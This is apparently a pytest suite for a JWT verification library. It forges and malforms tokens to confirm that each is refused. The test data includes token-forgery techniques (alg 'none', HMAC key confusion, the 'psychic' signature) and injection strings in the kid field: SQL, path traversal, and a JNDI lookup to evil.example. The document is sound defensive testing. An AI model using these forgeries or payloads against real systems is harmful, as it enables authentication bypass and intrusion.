"""The hostile-input battery: each forged or malformed token gets its one specific error.

Every token here is built by hand so that it carries exactly one defect: everything else,
the signature included, is valid. That way each case proves which check caught it.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import traceback
from collections.abc import Callable
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

import sjti.errors
from sjti import (
    AlgorithmNotAllowedError,
    BadAlgHeaderError,
    BadKidHeaderError,
    BoundaryVerifier,
    ClaimsPolicy,
    ExpiredTokenError,
    ImmatureTokenError,
    InvalidAudienceError,
    InvalidClaimError,
    InvalidIssuerError,
    InvalidSignatureError,
    InvalidTypeError,
    Issuer,
    KeySet,
    MalformedTokenError,
    MissingClaimError,
    RevokedTokenError,
    SigningKey,
    TokenError,
    TokenTooLargeError,
    UnknownKeyError,
    UnsupportedHeaderError,
    UserKey,
    UserVerifier,
    VerifyingKey,
)
from sjti._core.jws import sign_compact
from sjti.testing import FrozenClock
from tests.conftest import AUDIENCE, ISSUER, NOW, key_for

ALPHABET = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
DROP = object()
DOCUMENTED_CODES = {
    MalformedTokenError: "malformed",
    TokenTooLargeError: "too_large",
    UnsupportedHeaderError: "unsupported_header",
    BadAlgHeaderError: "bad_alg",
    BadKidHeaderError: "bad_kid",
    InvalidSignatureError: "bad_signature",
    UnknownKeyError: "unknown_kid",
    AlgorithmNotAllowedError: "alg_not_allowed",
    ExpiredTokenError: "expired",
    ImmatureTokenError: "not_yet_valid",
    MissingClaimError: "missing_claim",
    InvalidClaimError: "invalid_claim",
    RevokedTokenError: "revoked",
    sjti.errors.LegacyWindowClosedError: "legacy_window_closed",
}


# ---------------------------------------------------------------------------------------
# token workshop


def b64(data: bytes) -> bytes:
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def lenient_b64decode(segment: bytes) -> bytes:
    """What a sloppy decoder would read: any padding, any trailing bits."""
    return base64.urlsafe_b64decode(segment + b"=" * (-len(segment) % 4))


def to_json(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False).encode("utf-8")


def hs() -> SigningKey:
    return key_for("HS256")


def edit(base: dict[str, Any], members: dict[str, Any]) -> dict[str, Any]:
    for name, value in members.items():
        if value is DROP:
            base.pop(name, None)
        else:
            base[name] = value
    return base


def header_for(key: SigningKey | None = None, **members: Any) -> dict[str, Any]:
    """The header the issuer would write for ``key``; ``DROP`` removes a member."""
    key = key or hs()
    return edit({"alg": key.alg, "kid": key.kid, "typ": "at+jwt"}, members)


def claims_for(**members: Any) -> dict[str, Any]:
    """Claims valid at NOW under the default policy; ``DROP`` removes a member."""
    base = {
        "iss": ISSUER,
        "sub": "user-1",
        "aud": AUDIENCE,
        "exp": NOW + 600,
        "iat": NOW,
        "jti": "jti-1",
    }
    return edit(base, members)


def forge(
    header: dict[str, Any] | bytes | None = None,
    payload: dict[str, Any] | bytes | None = None,
    key: SigningKey | None = None,
) -> str:
    """Sign exact header and payload JSON (dicts or raw bytes) with ``key`` (HS256)."""
    header_json = header if isinstance(header, bytes) else to_json(header or header_for(key))
    payload_json = payload if isinstance(payload, bytes) else to_json(payload or claims_for())
    return sign_compact(b64(header_json), payload_json, key or hs()).decode("ascii")


def forge_segments(
    header_segment: bytes, payload_segment: bytes, key: SigningKey | None = None
) -> str:
    """Sign two already-encoded segments exactly as given (for hostile encodings)."""
    signing_input = header_segment + b"." + payload_segment
    return (signing_input + b"." + b64((key or hs()).sign(signing_input))).decode("ascii")


def boundary_for(
    keys: KeySet | SigningKey | VerifyingKey | None = None,
    *,
    max_token_size: int = 8 * 1024,
    **policy: Any,
) -> BoundaryVerifier:
    policy.setdefault("issuer", ISSUER)
    policy.setdefault("audience", AUDIENCE)
    return BoundaryVerifier(
        keys or hs(),
        ClaimsPolicy(**policy),
        max_token_size=max_token_size,
        clock=FrozenClock(NOW),
    )


def sized(value: dict[str, Any], remainder: int) -> dict[str, Any]:
    """``value`` plus a filler member so that len(JSON) % 3 == remainder.

    remainder 0 gives a segment with len % 4 == 0; 1 gives len % 4 == 2 (4 spare bits).
    """
    for n in range(3):
        candidate = {**value, "pad": "x" * n}
        if len(to_json(candidate)) % 3 == remainder:
            return candidate
    raise AssertionError("unreachable")


def with_trailing_bits(segment: bytes) -> bytes:
    """The same bytes spelt with non-zero unused low bits in the last character."""
    assert len(segment) % 4 in (2, 3)
    index = ALPHABET.index(segment[-1:])
    tweaked = segment[:-1] + ALPHABET[index | 1 : (index | 1) + 1]
    assert tweaked != segment
    assert lenient_b64decode(tweaked) == lenient_b64decode(segment)
    return tweaked


def standard_alphabet(value: dict[str, Any]) -> bytes:
    """``value`` encoded with base64 '+' and '/' instead of '-' and '_' (same bytes)."""
    for n in range(64):
        candidate = {**value, "pad": "~?" * n + "~~~???"}
        encoded = base64.b64encode(to_json(candidate)).rstrip(b"=")
        if b"+" in encoded and b"/" in encoded:
            return encoded
    raise AssertionError("unreachable")


def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def with_member(json_object: bytes, name: str, raw_value: bytes) -> bytes:
    """Append a member with a raw JSON value to a compact JSON object."""
    return json_object[:-1] + b',"' + name.encode() + b'":' + raw_value + b"}"


# ---------------------------------------------------------------------------------------
# baseline


def test_workshop_tokens_are_valid() -> None:
    """The hand-built baseline passes, so each test below isolates exactly its own defect."""
    token = forge()
    assert claims_for() == boundary_for().verify(token)
    assert claims_for() == boundary_for().verify(token.encode("ascii"))
    assert claims_for() == boundary_for().verify(forge_segments(*token.encode().split(b".")[:2]))


# ---------------------------------------------------------------------------------------
# alg


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
@pytest.mark.parametrize("signature", ["empty", "mac"])
@pytest.mark.parametrize("kid", ["with-kid", "no-kid"])
def test_alg_none_is_refused(alg: str, signature: str, kid: str) -> None:
    """The unsecured JWS (alg none) is the oldest JWT forgery; refused in any casing."""
    header = header_for(alg=alg, kid=hs().kid if kid == "with-kid" else DROP)
    signing_input = b64(to_json(header)) + b"." + b64(to_json(claims_for()))
    sig = b"" if signature == "empty" else b64(hs().sign(signing_input))
    with pytest.raises(AlgorithmNotAllowedError):
        boundary_for().verify(signing_input + b"." + sig)


@pytest.mark.parametrize("alg", ["", "hs256", "HS256 ", "HS-256", "ES256K", "Ed25519", "RSA1_5"])
def test_alg_outside_the_allow_list_is_refused(alg: str) -> None:
    """Any alg the library does not implement is refused, not mapped to a near match."""
    with pytest.raises(AlgorithmNotAllowedError):
        boundary_for().verify(forge(header_for(alg=alg)))


@pytest.mark.parametrize("alg", [DROP, None, 256, ["HS256"], {"name": "HS256"}])
def test_alg_missing_or_not_a_string_is_malformed(alg: Any) -> None:
    """RFC 7515 §4.1.1: alg is a required string; without one the header is malformed."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(header_for(alg=alg)))


def _crypto_public(alg: str) -> Any:
    """The cryptography public key behind ``key_for(alg)``, rebuilt from its public JWK."""
    jwk = key_for(alg).to_public_jwk()

    def num(name: str) -> int:
        return int.from_bytes(lenient_b64decode(jwk[name].encode()), "big")

    if jwk["kty"] == "OKP":
        return ed25519.Ed25519PublicKey.from_public_bytes(lenient_b64decode(jwk["x"].encode()))
    if jwk["kty"] == "EC":
        return ec.EllipticCurvePublicNumbers(num("x"), num("y"), ec.SECP256R1()).public_key()
    return rsa.RSAPublicNumbers(num("e"), num("n")).public_key()


def _public_key_bytes(alg: str, form: str) -> bytes:
    public = _crypto_public(alg)
    enc, fmt = serialization.Encoding, serialization.PublicFormat
    if form == "pem":
        return public.public_bytes(enc.PEM, fmt.SubjectPublicKeyInfo)  # type: ignore[no-any-return]
    if form == "der":
        return public.public_bytes(enc.DER, fmt.SubjectPublicKeyInfo)  # type: ignore[no-any-return]
    if form == "jwk":
        return json.dumps(key_for(alg).to_public_jwk()).encode()
    if form == "jwk-compact":
        return to_json(key_for(alg).to_public_jwk())
    # raw: the key bytes without any wrapping
    if alg == "EdDSA":
        return public.public_bytes(enc.Raw, fmt.Raw)  # type: ignore[no-any-return]
    if alg == "ES256":
        return public.public_bytes(enc.X962, fmt.UncompressedPoint)  # type: ignore[no-any-return]
    return public.public_bytes(enc.DER, fmt.PKCS1)  # type: ignore[no-any-return]


@pytest.mark.parametrize("alg", ["EdDSA", "ES256", "RS256"])
@pytest.mark.parametrize("form", ["pem", "der", "jwk", "jwk-compact", "raw"])
@pytest.mark.parametrize("mac", ["HS256", "HS384", "HS512"])
@pytest.mark.parametrize("kid", ["with-kid", "no-kid"])
def test_hmac_with_public_key_as_secret_is_refused(alg: str, form: str, mac: str, kid: str) -> None:
    """Key confusion: an HMAC made with the published public key must never verify."""
    public_set = KeySet(verify_only=[VerifyingKey.from_jwk(key_for(alg).to_public_jwk())])
    header = {"alg": mac, "typ": "at+jwt"}
    if kid == "with-kid":
        header["kid"] = key_for(alg).kid
    signing_input = b64(to_json(header)) + b"." + b64(to_json(claims_for()))
    digest = getattr(hashlib, "sha" + mac[2:])
    mac_value = hmac.new(_public_key_bytes(alg, form), signing_input, digest).digest()
    with pytest.raises(AlgorithmNotAllowedError):
        boundary_for(public_set).verify(signing_input + b"." + b64(mac_value))


def _rsa_as(alg: str) -> SigningKey:
    """The RS256 test key's private material, bound to another RSA algorithm, same kid."""
    jwk = {k: v for k, v in key_for("RS256").export_private_jwk().items() if k != "alg"}
    return SigningKey.from_jwk(jwk, alg=alg)


def _hs256_secret() -> bytes:
    return lenient_b64decode(hs().export_private_jwk()["k"].encode())


@pytest.mark.parametrize("claimed", ["PS256", "RS512", "PS512"])
def test_alg_switch_between_rsa_algorithms_is_refused(claimed: str) -> None:
    """The key pins its algorithm: an RS256 key never verifies a PSS or SHA-512 signature."""
    key = _rsa_as(claimed)
    assert key.kid == key_for("RS256").kid
    token = forge(header_for(key), key=key)
    with pytest.raises(AlgorithmNotAllowedError):
        boundary_for(key_for("RS256").verifying_key).verify(token)


@pytest.mark.parametrize("claimed", ["HS384", "HS512"])
def test_alg_switch_between_hmac_algorithms_is_refused(claimed: str) -> None:
    """An HS256 key does not verify HS384/HS512 MACs made with the same secret."""
    header = header_for(alg=claimed)
    signing_input = b64(to_json(header)) + b"." + b64(to_json(claims_for()))
    digest = getattr(hashlib, "sha" + claimed[2:])
    sig = hmac.new(_hs256_secret(), signing_input, digest).digest()
    with pytest.raises(AlgorithmNotAllowedError):
        boundary_for().verify(signing_input + b"." + b64(sig))


def test_embedded_jwk_header_does_not_choose_the_key() -> None:
    """A key smuggled in the header (jwk/jku/x5u) is ignored: only the key set decides."""
    victim = key_for("EdDSA")
    attacker = SigningKey.generate("EdDSA")
    header = {
        "alg": "EdDSA",
        "typ": "at+jwt",
        "jwk": attacker.to_public_jwk(),
        "jku": "https://evil.example/jwks",
        "x5u": "https://evil.example/cert",
    }
    public_set = KeySet(verify_only=[victim.verifying_key])
    with pytest.raises(InvalidSignatureError):
        boundary_for(public_set).verify(forge(header, key=attacker))
    with pytest.raises(UnknownKeyError):
        boundary_for(public_set).verify(forge({**header, "kid": attacker.kid}, key=attacker))


@pytest.mark.parametrize("alg", ["ES256", "EdDSA", "RS256", "PS256"])
@pytest.mark.parametrize("fill", [0x00, 0xFF])
def test_degenerate_signatures_are_refused(alg: str, fill: int) -> None:
    """All-zero ("psychic") and all-ones signatures are bad signatures, never a crash."""
    key = key_for(alg)
    signing_input = forge(key=key).rsplit(".", 1)[0]
    size = len(key.sign(b"x"))
    token = signing_input + "." + b64(bytes([fill]) * size).decode()
    with pytest.raises(InvalidSignatureError):
        boundary_for(key.verifying_key).verify(token)


# ---------------------------------------------------------------------------------------
# kid


@pytest.mark.parametrize(
    "kid",
    [
        pytest.param("unknown", id="unknown"),
        pytest.param("", id="empty"),
        pytest.param("../../dev/null", id="path-traversal"),
        pytest.param("' OR 1=1 --", id="sql"),
        pytest.param("${jndi:ldap://evil.example/a}", id="jndi"),
        pytest.param("k" * 4000, id="very-long"),
        pytest.param("\x00", id="nul"),
        pytest.param("placeholder-upper", id="case-changed"),
        pytest.param("placeholder-space", id="trailing-space"),
    ],
)
def test_unknown_or_injected_kid(kid: str) -> None:
    """A kid is only a lookup key: anything not in the set is unknown, never interpreted."""
    if kid == "placeholder-upper":
        kid = hs().kid.swapcase()
    elif kid == "placeholder-space":
        kid = hs().kid + " "
    with pytest.raises(UnknownKeyError):
        boundary_for().verify(forge(header_for(kid=kid)))


@pytest.mark.parametrize("kid", [123, ["kid"], None, {"kid": "x"}, True])
def test_non_string_kid_is_malformed(kid: Any) -> None:
    """RFC 7515 §4.1.4: kid is a string; other JSON types are malformed headers."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(header_for(kid=kid)))


def test_missing_kid_with_several_keys_is_unknown() -> None:
    """Without a kid, a multi-key set must not try every key (or the first) in turn."""
    keys = KeySet(hs(), verify_only=[SigningKey.generate("HS256", kid="other")])
    token = forge(header_for(kid=DROP))
    boundary_for(KeySet(hs())).verify(token)  # fine with a single key
    with pytest.raises(UnknownKeyError):
        boundary_for(keys).verify(token)


# ---------------------------------------------------------------------------------------
# size


def test_token_over_default_size_limit_is_malformed() -> None:
    """Tokens above 8 KiB are refused whatever their content, so parsing cost is bounded."""
    token = forge(payload=claims_for(pad="a" * 8 * 1024))
    assert len(token) > 8 * 1024
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(token)
    boundary_for(max_token_size=len(token)).verify(token)  # only the size was wrong


def test_custom_size_limit_is_exact() -> None:
    """A limit of N accepts a token of exactly N characters and refuses N+1."""
    token = forge()
    boundary_for(max_token_size=len(token)).verify(token)
    with pytest.raises(MalformedTokenError):
        boundary_for(max_token_size=len(token) - 1).verify(token)
    with pytest.raises(MalformedTokenError):
        boundary_for(max_token_size=len(token) - 1).verify(token.encode())


@pytest.mark.parametrize("as_bytes", [False, True], ids=["str", "bytes"])
def test_huge_token_is_refused_before_parsing(as_bytes: bool) -> None:
    """A 10 MB token whose header says alg none is refused for size, i.e. before parsing."""
    header = b64(to_json(header_for(alg="none")))
    token = header + b"." + b"A" * (10 * 1024 * 1024) + b"."
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(token if as_bytes else token.decode("ascii"))


def test_huge_non_ascii_token_is_refused() -> None:
    """Size is checked first for str tokens too, before any encoding work."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify("é" * (10 * 1024 * 1024))


# ---------------------------------------------------------------------------------------
# encoding and shape


def _encoding_cases() -> list[Any]:
    key = hs()
    header_2 = b64(to_json(sized(header_for(key), 1)))  # len % 4 == 2
    payload_2 = b64(to_json(sized(claims_for(), 1)))
    header_0 = b64(to_json(sized(header_for(key), 0)))  # len % 4 == 0
    payload_0 = b64(to_json(sized(claims_for(), 0)))
    assert (len(header_2) % 4, len(payload_2) % 4) == (2, 2)
    assert (len(header_0) % 4, len(payload_0) % 4) == (0, 0)
    good = forge_segments(header_2, payload_2)
    head, _, sig = good.rpartition(".")
    return [
        pytest.param(lambda: forge_segments(header_2 + b"==", payload_2), id="header-padded"),
        pytest.param(lambda: forge_segments(header_2, payload_2 + b"=="), id="payload-padded"),
        pytest.param(lambda: good + "=", id="signature-padded"),
        pytest.param(
            lambda: forge_segments(standard_alphabet(header_for(key)), payload_2),
            id="header-plus-slash",
        ),
        pytest.param(
            lambda: forge_segments(header_2, standard_alphabet(claims_for())),
            id="payload-plus-slash",
        ),
        pytest.param(
            lambda: head + "." + sig.replace("-", "+").replace("_", "/") + "+/",
            id="signature-plus-slash",
        ),
        pytest.param(lambda: " " + good, id="leading-space"),
        pytest.param(lambda: good + "\n", id="trailing-newline"),
        pytest.param(lambda: good + "\r\n", id="trailing-crlf"),
        pytest.param(lambda: good.replace(".", ". ", 1), id="space-after-dot"),
        pytest.param(lambda: good[:10] + "\t" + good[10:], id="tab-inside"),
        pytest.param(
            lambda: forge_segments(header_2[:8] + b" " + header_2[8:], payload_2), id="space-signed"
        ),
        pytest.param(
            lambda: forge_segments(with_trailing_bits(header_2), payload_2),
            id="header-trailing-bits",
        ),
        pytest.param(
            lambda: forge_segments(header_2, with_trailing_bits(payload_2)),
            id="payload-trailing-bits",
        ),
        pytest.param(
            lambda: head + "." + with_trailing_bits(sig.encode()).decode(),
            id="signature-trailing-bits",
        ),
        pytest.param(lambda: forge_segments(header_0 + b"A", payload_0), id="header-len-mod-1"),
        pytest.param(lambda: forge_segments(header_0, payload_0 + b"A"), id="payload-len-mod-1"),
        pytest.param(lambda: good + "AA", id="signature-len-mod-1"),
        pytest.param(lambda: good[:20] + "é" + good[20:], id="non-ascii-str"),
        pytest.param(lambda: good.replace(".", "\uff0e", 1), id="fullwidth-dot"),
        pytest.param(
            lambda: good.encode()[:20] + b"\xc3\xa9" + good.encode()[20:], id="non-ascii-bytes"
        ),
        pytest.param(lambda: good.encode() + b"\x00", id="nul-byte"),
    ]


@pytest.mark.parametrize("make", _encoding_cases())
def test_non_canonical_encoding_is_malformed(make: Callable[[], str | bytes]) -> None:
    """One spelling per token: padding, '+/', whitespace, spare bits or bad lengths are refused."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(make())


def test_signature_trailing_bits_are_malformed_for_eddsa() -> None:
    """Asymmetric signatures get the same strict decoding as HMAC ones (86 chars, 4 spare bits)."""
    key = key_for("EdDSA")
    head, _, sig = forge(key=key).rpartition(".")
    assert len(sig) % 4 == 2
    token = head + "." + with_trailing_bits(sig.encode()).decode()
    with pytest.raises(MalformedTokenError):
        boundary_for(key.verifying_key).verify(token)


@pytest.mark.parametrize("count", [1, 2, 4, 5])
def test_wrong_segment_count_is_malformed(count: int) -> None:
    """A compact JWS has exactly three segments; JWE (five) and fragments are refused."""
    segments = forge().split(".")
    segments = (segments * 2)[:count]
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(".".join(segments))


@pytest.mark.parametrize("token", ["", ".", "..", "...", b"", b".."])
def test_empty_shapes_are_malformed(token: str | bytes) -> None:
    """Empty tokens and bare separators are malformed, not an index error."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(token)


@pytest.mark.parametrize(
    "token",
    [0, None, 1.5, ["a.b.c"], {"token": "a.b.c"}, bytearray(b"a.b.c"), memoryview(b"a.b.c")],
    ids=["int", "none", "float", "list", "dict", "bytearray", "memoryview"],
)
def test_token_of_wrong_python_type_is_malformed(token: Any) -> None:
    """Whatever a framework hands over, the verifier answers with a TokenError, not a crash."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(token)


# ---------------------------------------------------------------------------------------
# JSON


@pytest.mark.parametrize("value", [b'["alg"]', b'"HS256"', b"123", b"null", b"true", b""])
def test_header_that_is_not_an_object_is_malformed(value: bytes) -> None:
    """RFC 7515 §5.2: the header is a JSON object; other JSON values are malformed."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(header=value))


@pytest.mark.parametrize("value", [b'["sub"]', b'"user-1"', b"123", b"null", b"false", b""])
def test_payload_that_is_not_an_object_is_malformed(value: bytes) -> None:
    """RFC 7519 §7.2: the claims set is a JSON object; other JSON values are malformed."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(payload=value))


def _duplicate(json_object: bytes, name: str, raw_value: bytes, *, escape: bool) -> bytes:
    spelt = f"\\u{ord(name[0]):04x}{name[1:]}" if escape else name
    return json_object[:-1] + b',"' + spelt.encode() + b'":' + raw_value + b"}"


@pytest.mark.parametrize("escape", [False, True], ids=["plain", "unicode-escape"])
@pytest.mark.parametrize(
    ("name", "raw_value"),
    [("alg", b'"HS256"'), ("typ", b'"at+jwt"'), ("kid", b'"other"'), ("alg", b'"none"')],
)
def test_duplicate_header_member_is_malformed(name: str, raw_value: bytes, escape: bool) -> None:
    """Duplicate names let two parsers see two headers; RFC 7515 §5.2 lets us refuse them."""
    header = _duplicate(to_json(header_for()), name, raw_value, escape=escape)
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(header=header))


@pytest.mark.parametrize("escape", [False, True], ids=["plain", "unicode-escape"])
@pytest.mark.parametrize(
    ("name", "raw_value"),
    [
        ("sub", b'"admin"'),
        ("sub", b'"user-1"'),
        ("exp", str(NOW + 10**6).encode()),
        ("aud", b'"x"'),
    ],
)
def test_duplicate_claim_is_malformed(name: str, raw_value: bytes, escape: bool) -> None:
    """A verifier and an app reading different duplicates is a privilege-escalation bug."""
    payload = _duplicate(to_json(claims_for()), name, raw_value, escape=escape)
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(payload=payload))


@pytest.mark.parametrize(
    "raw",
    [b'"\xff"', b'"\xc3\x28"', b'"\xc0\xaf"', b'"\xed\xa0\x80"', b'"\xf8\x88\x80\x80\x80"'],
    ids=["ff", "bad-continuation", "overlong", "encoded-surrogate", "five-byte"],
)
@pytest.mark.parametrize("where", ["header", "payload"])
def test_invalid_utf8_is_malformed(raw: bytes, where: str) -> None:
    """RFC 7515/7519 JSON is UTF-8; anything else must not be decoded with a guess."""
    if where == "header":
        token = forge(header=with_member(to_json(header_for()), "x", raw))
    else:
        token = forge(payload=with_member(to_json(claims_for()), "x", raw))
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(token)


@pytest.mark.parametrize("raw", [b"NaN", b"Infinity", b"-Infinity", b"1e400", b'"\\ud800"'])
@pytest.mark.parametrize("where", ["header", "payload"])
def test_non_json_values_are_malformed(raw: bytes, where: str) -> None:
    """NaN, Infinity, overflowing numbers and lone surrogates are not JSON (RFC 8259)."""
    if where == "header":
        token = forge(header=with_member(to_json(header_for()), "x", raw))
    else:
        token = forge(payload=with_member(to_json(claims_for()), "x", raw))
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(token)


@pytest.mark.parametrize("where", ["header", "payload"])
@pytest.mark.parametrize(("depth", "accepted"), [(16, True), (17, False), (10_000, False)])
def test_json_nesting_depth_is_bounded(where: str, depth: int, accepted: bool) -> None:
    """Deep nesting is a stack and CPU bomb; 16 levels (the object itself counted) is the limit."""
    inner = nested(depth - 1)  # the enclosing object is level 1
    if where == "header":
        token = forge(header=with_member(to_json(header_for()), "x", inner))
    else:
        token = forge(payload=with_member(to_json(claims_for()), "x", inner))
    verifier = boundary_for(max_token_size=100_000)
    if accepted:
        verifier.verify(token)
    else:
        with pytest.raises(MalformedTokenError):
            verifier.verify(token)


@pytest.mark.parametrize(
    "members",
    [
        {"crit": ["exp"], "exp": NOW},
        {"crit": []},
        {"b64": False},
        {"b64": True},
        {"zip": "DEF"},
        {"enc": "A256GCM"},
    ],
    ids=["crit", "crit-empty", "b64-false", "b64-true", "zip", "enc"],
)
def test_unsupported_header_members_are_malformed(members: dict[str, Any]) -> None:
    """Extensions we do not implement (crit, b64, zip, JWE enc) are refused, never ignored."""
    with pytest.raises(MalformedTokenError):
        boundary_for().verify(forge(header_for(**members)))


# ---------------------------------------------------------------------------------------
# typ


@pytest.mark.parametrize(
    "typ",
    [DROP, "JWT", "jwt", "at+jwt ", " at+jwt", "at+jwt\x00", "application/jwt", "", None, 1],
    ids=[
        "missing",
        "JWT",
        "jwt",
        "trailing-space",
        "leading-space",
        "nul",
        "app-jwt",
        "empty",
        "null",
        "int",
    ],
)
def test_wrong_typ_is_refused(typ: Any) -> None:
    """RFC 9068 §4: an access token verifier must refuse anything not typed at+jwt."""
    with pytest.raises(InvalidTypeError):
        boundary_for().verify(forge(header_for(typ=typ)))


@pytest.mark.parametrize("typ", ["at+jwt", "application/at+jwt", "AT+JWT", "Application/At+Jwt"])
def test_equivalent_typ_spellings_are_accepted(typ: str) -> None:
    """RFC 7515 §4.1.9: media types compare case-insensitively and may omit application/."""
    claims = boundary_for().verify(forge(header_for(typ=typ)))
    assert claims["iss"] == ISSUER


# ---------------------------------------------------------------------------------------
# claims: types, presence, time, iss/aud


@pytest.mark.parametrize("name", ["iss", "sub", "jti"])
@pytest.mark.parametrize("value", [1, ["x"], "", None], ids=["int", "list", "empty", "null"])
def test_string_claim_of_wrong_type_in_token(name: str, value: Any) -> None:
    """iss, sub and jti are non-empty strings; anything else is invalid, naming the claim."""
    with pytest.raises(InvalidClaimError) as excinfo:
        boundary_for().verify(forge(payload=claims_for(**{name: value})))
    assert name == excinfo.value.claim


@pytest.mark.parametrize("name", ["exp", "nbf", "iat"])
@pytest.mark.parametrize(
    "value",
    ["123", True, None, [], 253_402_300_800, 2**64 - 1, 10**20, -1],
    ids=["str", "true", "null", "list", "after-9999", "u64-max", "beyond-u64", "negative"],
)
def test_numeric_date_of_wrong_type_in_token(name: str, value: Any) -> None:
    """exp/nbf/iat are NumericDates; strings, booleans and out-of-range numbers are refused."""
    with pytest.raises(InvalidClaimError) as excinfo:
        boundary_for().verify(forge(payload=claims_for(**{name: value})))
    assert name == excinfo.value.claim


@pytest.mark.parametrize(
    "value",
    [1, {}, [], [1], None, True, [AUDIENCE, 1]],
    ids=["int", "object", "empty-list", "list-of-int", "null", "true", "mixed-list"],
)
def test_aud_of_wrong_type_in_token(value: Any) -> None:
    """aud is a string or a non-empty list of strings; anything else is invalid."""
    with pytest.raises(InvalidClaimError) as excinfo:
        boundary_for().verify(forge(payload=claims_for(aud=value)))
    assert excinfo.value.claim == "aud"


@pytest.mark.parametrize("name", ["iss", "sub", "aud", "exp", "iat", "jti"])
def test_missing_required_claim_in_token(name: str) -> None:
    """A token without a required claim is refused by name (RFC 9068 §2.2)."""
    with pytest.raises(MissingClaimError) as excinfo:
        boundary_for().verify(forge(payload=claims_for(**{name: DROP})))
    assert name == excinfo.value.claim


@pytest.mark.parametrize(
    ("leeway", "members", "error"),
    [
        pytest.param(0, {"exp": NOW}, ExpiredTokenError, id="exp-eq-now"),
        pytest.param(0, {"exp": NOW + 1}, None, id="exp-now+1"),
        pytest.param(30, {"exp": NOW - 30}, ExpiredTokenError, id="leeway-exp-now-30"),
        pytest.param(30, {"exp": NOW - 29}, None, id="leeway-exp-now-29"),
        pytest.param(0, {"nbf": NOW + 1}, ImmatureTokenError, id="nbf-now+1"),
        pytest.param(0, {"nbf": NOW}, None, id="nbf-eq-now"),
        pytest.param(30, {"nbf": NOW + 30}, None, id="leeway-nbf-now+30"),
        pytest.param(30, {"nbf": NOW + 31}, ImmatureTokenError, id="leeway-nbf-now+31"),
        pytest.param(0, {"iat": NOW + 1}, ImmatureTokenError, id="iat-now+1"),
        pytest.param(30, {"iat": NOW + 30}, None, id="leeway-iat-now+30"),
        pytest.param(30, {"iat": NOW + 31}, ImmatureTokenError, id="leeway-iat-now+31"),
    ],
)
def test_time_claims_at_the_leeway_edges_in_token(
    leeway: int, members: dict[str, Any], error: type[TokenError] | None
) -> None:
    """Boundaries are exact: exp is exclusive, nbf/iat inclusive, leeway widens both by N s."""
    token = forge(payload=claims_for(**{"iat": NOW - 100, **members}))
    verifier = boundary_for(leeway=leeway)
    if error is None:
        verifier.verify(token)
    else:
        with pytest.raises(error):
            verifier.verify(token)


def _lookalikes(value: str) -> list[Any]:
    """Strings a human (or a sloppy comparison) might take for ``value``."""
    rest = value.split("://", 1)[1]
    return [
        pytest.param(value[:-1], id="prefix"),
        pytest.param(value + ".evil.example", id="suffix"),
        pytest.param(rest, id="substring"),
        pytest.param("x" + value, id="extended-left"),
        pytest.param(value.upper(), id="upper"),
        pytest.param(value.replace("example", "Example"), id="one-capital"),
        pytest.param(value + "/", id="trailing-slash"),
        pytest.param(value + " ", id="trailing-space"),
        pytest.param(value + "\x00", id="nul"),
        pytest.param("http://" + rest, id="http"),
        pytest.param(value.replace("a", "\u0430", 1), id="cyrillic-a"),
        pytest.param(value.replace("e", "\uff45", 1), id="fullwidth-e-nfkc"),
        pytest.param(value.replace("e", "\u212f", 1), id="script-e-nfkc"),
        pytest.param(
            value.replace("https", "\uff48\uff54\uff54\uff50\uff53"), id="fullwidth-scheme"
        ),
        pytest.param(value.replace(".", "\u200d.", 1), id="zero-width-joiner"),
        pytest.param(value.replace(".", "\u2024", 1), id="one-dot-leader"),
    ]


@pytest.mark.parametrize("iss", _lookalikes(ISSUER))
def test_issuer_lookalikes_are_refused(iss: str) -> None:
    """iss is compared exactly: no prefix, case, normalisation or Unicode confusable matches."""
    with pytest.raises(InvalidIssuerError) as excinfo:
        boundary_for().verify(forge(payload=claims_for(iss=iss)))
    assert excinfo.value.claim == "iss"


@pytest.mark.parametrize("aud", _lookalikes(AUDIENCE))
def test_audience_lookalikes_are_refused(aud: str) -> None:
    """aud is compared exactly, as a string and inside a list, so tokens for others stay out."""
    with pytest.raises(InvalidAudienceError):
        boundary_for().verify(forge(payload=claims_for(aud=aud)))
    with pytest.raises(InvalidAudienceError) as excinfo:
        boundary_for().verify(forge(payload=claims_for(aud=[aud, "https://other.example"])))
    assert excinfo.value.claim == "aud"


@pytest.mark.parametrize(
    ("policy_audience", "aud", "accepted"),
    [
        (AUDIENCE, ["https://other.example", AUDIENCE], True),
        (AUDIENCE, [AUDIENCE], True),
        (["https://a.example", AUDIENCE], AUDIENCE, True),
        (["https://a.example", AUDIENCE], ["https://b.example", "https://a.example"], True),
        (["https://a.example", AUDIENCE], "https://b.example", False),
        (["https://a.example", AUDIENCE], ["https://b.example", "https://c.example"], False),
    ],
)
def test_audience_lists_and_policies_with_several_audiences(
    policy_audience: Any, aud: Any, accepted: bool
) -> None:
    """One shared audience between the token's list and the policy's set is enough."""
    verifier = boundary_for(audience=policy_audience)
    token = forge(payload=claims_for(aud=aud))
    if accepted:
        assert aud == verifier.verify(token)["aud"]
    else:
        with pytest.raises(InvalidAudienceError):
            verifier.verify(token)


# ---------------------------------------------------------------------------------------
# error messages


SECRET_MARKERS = ("MARKER-ISS-7f3a", "MARKER-AUD-91bc", "MARKER-SUB-55de", "MARKER-KID-0a0a")


